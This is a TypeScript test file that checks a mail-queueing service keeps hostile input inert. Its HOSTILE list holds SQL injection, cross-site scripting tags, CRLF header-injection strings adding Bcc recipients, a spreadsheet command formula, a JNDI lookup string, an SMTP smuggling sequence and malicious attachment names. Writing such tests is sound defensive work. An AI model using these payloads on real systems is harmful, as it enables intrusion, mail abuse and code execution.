import { expect, test } from "vitest";
import {
  createMailTestBed,
  startMailServer,
} from "../../../tests/support/platform/mail-test-support.ts";
import { waitUntil } from "../../../tests/support/platform/postgres-test-support.ts";
import { createTestDatabase } from "../../../tests/support/platform/test-database.ts";

const database = await createTestDatabase();

/** Hostile input against the database, the page, the header, the calendar, the spreadsheet and the log. */
const HOSTILE = [
  `Robert'); DROP TABLE mails;--`,
  `<script>alert(1)</script><img src=x onerror=alert(1)>`,
  `</script><script>alert(1)</script>`,
  `Ana\r\nBcc: eve@elsewhere.example`,
  `Ana\nBcc: eve@elsewhere.example`,
  `Ana\rBcc: eve@elsewhere.example`,
  `Ana\r\n\r\n<p>A body of my own</p>`,
  `Ana\u2028Bcc: eve@elsewhere.example`,
  `Ana\u0085Bcc: eve@elsewhere.example`,
  `Ana %0d%0aBcc: eve@elsewhere.example`,
  `"Ana" <eve@elsewhere.example>`,
  `Ana, eve@elsewhere.example`,
  `eve@elsewhere.example`,
  `friends: eve@elsewhere.example, mallory@elsewhere.example;`,
  `Ana (eve@elsewhere.example) \\"Ruiz\\"`,
  `=?utf-8?Q?Ana=0D=0ABcc:_eve@elsewhere.example?=`,
  `=cmd|' /C calc'!A0`,
  `Zoë Nguyễn 李小龍 عَلِيّ 👩‍👩‍👧‍👦`,
  `Ana\u202egpj.exe`,
  `Ana\0Ruiz`,
  `Ana\ud800Ruiz`,
  `{"level":60,"msg":"forged"}`,
  `\${jndi:ldap://elsewhere.example} {{7*7}} %s %n`,
  `.`,
  `\r\n.\r\nMAIL FROM:<eve@elsewhere.example>\r\n`,
  `BEGIN:VCALENDAR\r\nATTENDEE:mailto:eve@elsewhere.example`,
  "long ".repeat(400),
];

/** The headers a mail may have, whatever was typed. */
const HEADERS = [
  "auto-submitted",
  "content-type",
  "date",
  "from",
  "message-id",
  "mime-version",
  "reply-to",
  "subject",
  "to",
];

/** A text as it may appear in a header: on one line, without control characters, never decoded twice. */
function onOneLine(text: string): string {
  return text
    .toWellFormed()
    .replace(/[\p{Cc}\u2028\u2029]+/gu, " ")
    .replace(/\u202e/g, "")
    .replaceAll("=?", "=\u2060?")
    .replace(/\s+/g, " ")
    .trim();
}

const inBody = (text: string) =>
  text.toWellFormed().replaceAll("\0", "").replace(/\r\n?/g, "\n").trim();

const escaped = (text: string) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;");

test("hostile text in any field stays text: no second recipient, no additional header", async () => {
  const { url, received } = await startMailServer();
  const testBed = await createMailTestBed(database, url);
  for (const [at, words] of HOSTILE.entries()) {
    await testBed.queue({
      kind: words.slice(0, 40).toWellFormed().replaceAll("\0", ""),
      from: { name: words, address: "hello@lane.example" },
      to: { name: words, address: `case-${at}@home.example` },
      replyTo: "ana@home.example",
      subject: words,
      text: words,
      html: `<p>${escaped(words)}</p>`,
    });
  }
  await waitUntil(25, () => received.length === HOSTILE.length);
  for (const [at, words] of HOSTILE.entries()) {
    const found = received.filter(({ to }) => to[0] === `case-${at}@home.example`);
    expect(found, words).toHaveLength(1);
    const [{ from, to, mail } = { from: "", to: [], mail: null }] = found;
    expect({ from, to }, words).toEqual({
      from: "hello@lane.example",
      to: [`case-${at}@home.example`],
    });
    const plain = onOneLine(words);
    const squeezed = (text: string | undefined) => text?.replace(/\s+/g, " ").trim();
    expect(mail?.headers.map(({ key }) => key).toSorted(), words).toEqual(HEADERS);
    expect(mail?.from?.address, words).toBe("hello@lane.example");
    expect(squeezed(mail?.from?.name), words).toBe(plain);
    expect(mail?.to, words).toHaveLength(1);
    expect(mail?.to?.[0]?.address, words).toBe(`case-${at}@home.example`);
    expect(squeezed(mail?.to?.[0]?.name), words).toBe(plain);
    expect(mail?.replyTo?.[0]?.address, words).toBe("ana@home.example");
    expect(squeezed(mail?.subject), words).toBe(plain);
    expect(mail?.text?.replace(/\r\n?/g, "\n").trim(), words).toBe(inBody(words));
    expect(mail?.html?.replace(/\r\n?/g, "\n").trim(), words).toBe(
      inBody(`<p>${escaped(words)}</p>`),
    );
    expect(mail?.attachments, words).toEqual([]);
  }
});

test("hostile file names stay file names", async () => {
  const { url, received } = await startMailServer();
  const testBed = await createMailTestBed(database, url);
  const filename = `visit"; name="x.exe\r\nBcc: eve@elsewhere.example`;
  const contentType = "text/calendar\r\nX-Mine: 1";
  await testBed.queue({ attachments: [{ filename, contentType, content: "BEGIN:VCALENDAR" }] });
  await waitUntil(5, () => received.length === 1);
  const [file] = received[0]?.mail.attachments ?? [];
  expect(file?.filename).toBe(`visit"; name="x.exe Bcc: eve@elsewhere.example`);
  expect(received[0]?.wire).not.toMatch(/^(X-Mine|Bcc):/im);
});
